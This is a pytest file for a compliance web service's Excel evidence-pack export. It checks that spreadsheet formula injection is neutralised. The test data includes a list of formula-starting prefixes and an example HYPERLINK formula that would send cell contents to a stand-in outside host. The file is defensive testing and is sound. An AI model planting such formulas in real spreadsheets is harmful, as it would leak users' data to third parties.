"""The evidence pack, opened again: by its own library, and as the zip of XML that it is."""

import io
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook

from services._web.workbook import Column, SheetOf, neutral, workbook
from tests.compliance.assessing_bench import (
    API,
    COMPUTED,
    UNIT,
    others,
    serve,
    year,
)
from tests.registration.pages_bench import Site
from tests.serving import HANDLER, STRANGER

__all__ = ["others", "serve", "year"]

NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
MADE = datetime(2023, 12, 12, 1, tzinfo=UTC)
HOSTILE = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1"]
ATTACK = '=HYPERLINK("https://example.org/"&A1)'


def texts(pack: bytes) -> list[str]:
    """Every text of the workbook, read from its XML without a spreadsheet library."""
    with zipfile.ZipFile(io.BytesIO(pack)) as parts:
        assert parts.testzip() is None
        names = [name for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        sheets = [ET.fromstring(parts.read(name)) for name in names]  # noqa: S314 - our own
    assert not [formula for sheet in sheets for formula in sheet.iter(f"{NAMESPACE}f")]
    found = [cell for sheet in sheets for cell in sheet.iter(f"{NAMESPACE}is")]
    return ["".join(cell.itertext()) for cell in found]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_begin_a_formula_is_text(text: str) -> None:
    sheet = SheetOf("表", ("标题",), (Column("列", 10),), [[text]])
    pack = workbook([sheet], "标题", MADE)
    cell = load_workbook(io.BytesIO(pack))["表"]["A3"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")
    assert all(not found.startswith(tuple("=+-@\t\r")) for found in texts(pack))


def test_honest_text_stays_as_it_is() -> None:
    assert neutral("公告由区政府统一发布") == "公告由区政府统一发布"
    assert neutral("完成率-100%") == "完成率-100%"
    assert neutral("竖\x0b线") == "竖线"


def test_marks_are_numbers_and_exact() -> None:
    sheet = SheetOf("表", (), (Column("分", 10, marks=True),), [[1999], [None]])
    cell = load_workbook(io.BytesIO(workbook([sheet], "标题", MADE)))["表"]["A2"]
    assert (cell.value, cell.number_format) == (19.99, "0.00")


async def test_the_pack_holds_indicator_report_link_and_own_score(year: Site) -> None:
    given = {**COMPUTED, "report.notice": ATTACK, "link.notice": "https://example.org/11"}
    await year.done(f"{UNIT}/self-score", given, HANDLER)
    await year.get(f"{UNIT}/evidence-pack.xlsx", STRANGER, status=403)
    headers = await year.headers(HANDLER)
    answer = await year.client.get(f"{UNIT}/evidence-pack.xlsx", headers=headers)
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''jiugong-" in answer.headers["content-disposition"]
    book = load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["自评表", "佐证事实"]
    table = book["自评表"]
    head = [cell.value for cell in table[4]]
    assert head[:6] == ["序号", "指标", "满分", "报告", "链接", "自评分"]
    rows = {row[1]: row for row in table.iter_rows(min_row=5, values_only=True)}
    notice = rows["公告"]
    assert notice[2:6] == (25, f"'{ATTACK}", "https://example.org/11", 17)
    assert "项目自拟" in table["A2"].value
    assert (table.page_setup.orientation, table.page_setup.paperSize) == ("landscape", 9)
    assert table.print_title_rows == "$4:$4"
    facts = list(book["佐证事实"].iter_rows(min_row=4, values_only=True))
    late = next(row for row in facts if row[2] == "公告时间")
    assert (late[3], late[4]) == ("未达标", -8)
    assert any(row[5] == "与公告时间同一原因，不重复扣分" for row in facts)
    assert len(late[10]) == 64
    assert f"'{ATTACK}" in texts(answer.content)
    by_api = await year.client.get(
        f"{API}/assessment/jiugong/evidence-pack", headers=year.api.headers(HANDLER)
    )
    assert texts(by_api.content) == texts(answer.content)
